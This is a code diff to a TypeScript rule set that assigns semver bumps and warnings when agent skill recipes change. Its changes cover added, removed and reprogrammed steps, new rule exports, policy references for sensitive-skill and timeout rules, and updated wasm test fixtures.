+	valid: twoRecipes(``, ``)
+});
+// src/rules/change/recipe-step-added.ts
+const recipeStepAdded = changeRule({
+	id: "recipe-step-added",
+	category: "behaviour",
+	summary: "A new step of a recipe needs a minor bump.",
+	why: "The recipe does more than callers know.",
+	on: {
+		kind: "recipe-step",
+		action: "added"
+	},
+	grade: { bump: "minor" },
+	direction: "none",
+	basis: "inferred",
+	message: (change) => `Step ${itemName(change)} was added: the recipe runs ${programs(change.after)} there.`,
+	invalid: twoRecipes(``, `steps:
+  - id: build
+    command: make build
+  - id: push
+    command: git push
+`),
+	valid: twoRecipes(``, ``)
+});
+// src/rules/change/recipe-step-program-changed.ts
+const recipeStepProgramChanged = changeRule({
+	id: "recipe-step-program-changed",
+	category: "behaviour",
+	summary: "A step of a recipe that runs other programs needs a minor bump, and is a warning.",
+	why: "The user confirms the recipe by its name, and it runs something else.",
+	on: {
+		kind: "recipe-step",
+		facet: "programs"
+	},
+	grade: {
+		bump: "minor",
+		warn: true
+	},
+	direction: "none",
+	basis: "inferred",
+	message: (change) => `Step ${itemName(change)} runs ${programs(change.after)} instead of ${programs(change.before)}.`,
+	invalid: twoRecipes(``, `steps:
+  - id: build
+    command: npm run build
+`),
+	valid: twoRecipes(``, `steps:
+  - id: build
+    command: make all
+`)
+});
+// src/rules/change/recipe-step-removed.ts
+const recipeStepRemoved = changeRule({
+	id: "recipe-step-removed",
+	category: "behaviour",
+	summary: "A removed step of a recipe needs a minor bump.",
+	why: "The recipe does less than callers know.",
+	on: {
+		kind: "recipe-step",
+		action: "removed"
+	},
+	grade: { bump: "minor" },
+	direction: "none",
+	basis: "inferred",
+	message: (change) => `Step ${itemName(change)} was removed: it ran ${programs(change.before)}.`,
+	invalid: twoRecipes(`steps:
+  - id: build
+    command: make build
+  - id: push
+    command: git push
+`, ``),
+	valid: twoRecipes(`steps:
+  - id: build
+    command: make build
+  - id: push
+    command: git push
+`, `steps:
+  - id: build
+    command: make build
+  - id: push
+    command: git push origin
+`)
 });
 // src/rules/change/required-tool-added.ts
 const requiredToolAdded = changeRule({
@@ -6910,6 +7461,7 @@ const skillSensitiveSet = changeRule({
 	category: "behaviour",
 	summary: "A skill that becomes sensitive needs a minor bump.",
 	why: "Elevation without a review is now blocked.",
+	enforces: [adr002("`true`: Aggressive redaction, elevation blocked without review", "sensitive")],
 	on: { kind: "sensitive" },
 	when: ({ before, after }) => !isSet(before, "value") && isSet(after, "value"),
 	grade: { bump: "minor" },
@@ -6928,6 +7480,7 @@ const skillSensitiveUnset = changeRule({
 	category: "privilege",
 	summary: "A sensitive skill stays sensitive.",
 	why: "Its traces are no longer redacted, and elevation needs no review.",
+	enforces: [adr002("`false` (default): Standard tracing, eligible for elevation", "sensitive")],
 	on: { kind: "sensitive" },
 	when: ({ before, after }) => isSet(before, "value") && !isSet(after, "value"),
 	grade: { bump: "minor" },
@@ -7040,6 +7593,7 @@ const timeoutLowered = changeRule({
 	category: "behaviour",
 	summary: "A lowered timeout needs a minor bump.",
 	why: "Runs that took longer are now stopped.",
+	enforces: [adr002("`timeout`: Maximum execution time in seconds", "execution.timeout")],
 	on: {
 		kind: "execution",
 		action: "changed"
@@ -7316,7 +7870,7 @@ const wasmModulePathChanged = changeRule({
       [executable]
       module = "lib/deploy.wasm"
       exports = ["init", "shutdown"]
-    `, { "bin/deploy.wasm": "x" }, { "lib/deploy.wasm": "x" }),
+    `, { "bin/deploy.wasm (base64)": planModuleText }, { "lib/deploy.wasm (base64)": planModuleText }),
 	valid: twoTomls(`
       [provides]
       executable = true
@@ -7329,7 +7883,7 @@ const wasmModulePathChanged = changeRule({
       [executable]
       module = 'bin/deploy.wasm'
       exports = ["init", "shutdown"]
-    `, { "bin/deploy.wasm": "x" })
+    `, { "bin/deploy.wasm (base64)": planModuleText })
 });
 // src/rules/change-index.ts
 var change_index_exports = __exportAll({
@@ -7390,6 +7944,7 @@ var change_index_exports = __exportAll({
 	effectRemoved: () => effectRemoved,
 	effectUnknownAdded: () => effectUnknownAdded,
 	entrypointArgvChanged: () => entrypointArgvChanged,
+	entrypointCodeAdded: () => entrypointCodeAdded,
 	entrypointInputAdded: () => entrypointInputAdded,
 	entrypointInterpreterChanged: () => entrypointInterpreterChanged,
 	entrypointOsAdded: () => entrypointOsAdded,
@@ -7488,6 +8043,8 @@ var change_index_exports = __exportAll({
 	maxContextTokensLowered: () => maxContextTokensLowered,
 	maxContextTokensRaised: () => maxContextTokensRaised,
 	metadataChanged: () => metadataChanged,
+	moduleFunctionAdded: () => moduleFunctionAdded,
+	moduleFunctionRemoved: () => moduleFunctionRemoved,
 	netNarrowed: () => netNarrowed,
 	netWidened: () => netWidened,
 	networkFlagCleared: () => networkFlagCleared,
@@ -7525,7 +8082,20 @@ var change_index_exports = __exportAll({
 	providesAdded: () => providesAdded,
 	providesWithdrawn: () => providesWithdrawn,
 	recipeAdded: () => recipeAdded,
+	recipeConfirmationRelaxed: () => recipeConfirmationRelaxed,
+	recipeConfirmationTightened: () => recipeConfirmationTightened,
+	recipeParameterOptionalAdded: () => recipeParameterOptionalAdded,
+	recipeParameterOptionalRemoved: () => recipeParameterOptionalRemoved,
+	recipeParameterOptionalToRequired: () => recipeParameterOptionalToRequired,
+	recipeParameterRenamed: () => recipeParameterRenamed,
+	recipeParameterRequiredAdded: () => recipeParameterRequiredAdded,
+	recipeParameterRequiredRemoved: () => recipeParameterRequiredRemoved,
+	recipeParameterRequiredToOptional: () => recipeParameterRequiredToOptional,
 	recipeRemoved: () => recipeRemoved,
+	recipeRenamed: () => recipeRenamed,
+	recipeStepAdded: () => recipeStepAdded,
+	recipeStepProgramChanged: () => recipeStepProgramChanged,
+	recipeStepRemoved: () => recipeStepRemoved,
 	requiredToolAdded: () => requiredToolAdded,
 	requiredToolRemoved: () => requiredToolRemoved,
 	secretsAccessDisabled: () => secretsAccessDisabled,
